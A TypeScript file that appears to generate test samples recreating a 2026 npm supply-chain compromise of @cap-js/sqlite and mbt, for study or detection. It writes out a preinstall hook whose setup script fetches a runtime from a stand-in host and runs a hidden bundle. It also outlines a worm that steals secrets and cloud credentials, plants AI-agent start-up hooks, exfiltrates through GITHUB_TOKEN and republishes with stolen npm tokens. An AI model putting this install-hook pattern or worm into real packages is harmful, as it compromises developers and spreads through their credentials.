import { defineAttack } from "../attack.ts";
import { serviceClient } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import { collectCloud, collectSecrets, dropAgentHooks, republish, uploadToRepository } from "../fragments.ts";
import { commonScript, moduleScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { LineChange, PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * `@cap-js/sqlite` 2.2.2, `@cap-js/db-service` 2.10.1, mbt 1.2.48 and intercom-client, 29 and 30 April 2026: a bot's token and an OIDC
 * token from a runner. `preinstall` runs `setup.mjs`, which unpacks Bun and runs 11.6 MB; Russian locales are spared, agents' and
 * editors' start-up files are written. Three packages kept a valid pipeline, one was published by token.
 */
export const sapCap2026: Sample = defineAttack({
  id: "sap-cap-2026",
  title: "setup.mjs fetches Bun for a bundle of twelve megabytes that settles in agents' settings",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "@cap-js/sqlite", version: "2.2.2" },
    { name: "mbt", version: "1.2.48" },
  ],
  now: "2026-04-29T10:30:00Z",
  createLines: () => {
    const bundle = renderBundle(11_600_000, 93, [hideInTable(oneLine(worm))]);
    const change = (way: "hand" | "trusted-publisher"): LineChange => ({
      way,
      hasCommit: way !== "hand",
      manifest: { scripts: { test: "node --test", preinstall: "node setup.mjs" } },
      files: [
        { path: "setup.mjs", content: setup },
        { path: "execution.js", content: bundle },
      ],
    });
    return [
      line("@cap-js/sqlite", ["2.2.0", "2.2.1", "2.2.2"], change("trusted-publisher")),
      line("mbt", ["1.2.46", "1.2.47", "1.2.48"], change("hand")),
    ];
  },
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  change: LineChange,
): PackageLine {
  return {
    name,
    files: serviceClient(name),
    publisher: person("cloudmtabot"),
    way: name === "mbt" ? "hand" : "trusted-publisher",
    releases: [
      ["1.0.0", "2025-06-12T10:00:00Z"],
      [older, "2026-02-12T10:00:00Z"],
      [last, "2026-03-27T10:00:00Z"],
      [armed, "2026-04-29T09:55:00Z", change],
    ],
  };
}

const setup = moduleScript(
  `
import fs from "fs";
import os from "os";
import path from "path";
import https from "https";
import { execFileSync } from "child_process";
import { fileURLToPath } from "url";
`,
  String.raw`
const here = path.dirname(fileURLToPath(import.meta.url));
const version = "1.3.13";
const asset = { "linux-x64": "bun-linux-x64-baseline", "darwin-arm64": "bun-darwin-aarch64", "win32-x64": "bun-windows-x64-baseline" }[os.platform() + "-" + os.arch()];
const folder = fs.mkdtempSync(path.join(os.tmpdir(), "bun-dl-"));
const archive = path.join(folder, asset + ".zip");
const file = fs.createWriteStream(archive);
https.get("https://releases.codehost.invalid/oven-sh/bun/releases/download/bun-v" + version + "/" + asset + ".zip", (reply) => {
  reply.pipe(file);
  file.on("finish", () => {
    execFileSync("unzip", ["-oj", archive, "-d", folder], { stdio: "inherit" });
    const runtime = path.join(folder, "bun");
    fs.chmodSync(runtime, 0o755);
    execFileSync(runtime, [path.join(here, "execution.js")], { stdio: "inherit", cwd: here });
    fs.rmSync(folder, { recursive: true, force: true });
  });
}).on("error", () => {});
`,
);

const worm = commonScript(`
const speech = Intl.DateTimeFormat().resolvedOptions().locale;
if (speech.startsWith("ru") || (process.env.LANG || "").startsWith("ru")) { process.exit(0); }
${collectSecrets}
${collectCloud}
${dropAgentHooks}
${uploadToRepository("A Mini Inert has Appeared")}
${republish}
(async () => {
  await collectCloud().catch(() => {});
  dropAgentHooks();
  if (process.env.GITHUB_TOKEN) { await uploadToRepository(process.env.GITHUB_TOKEN); }
  if (npmToken()) { await republish(npmToken()); }
})();
`);
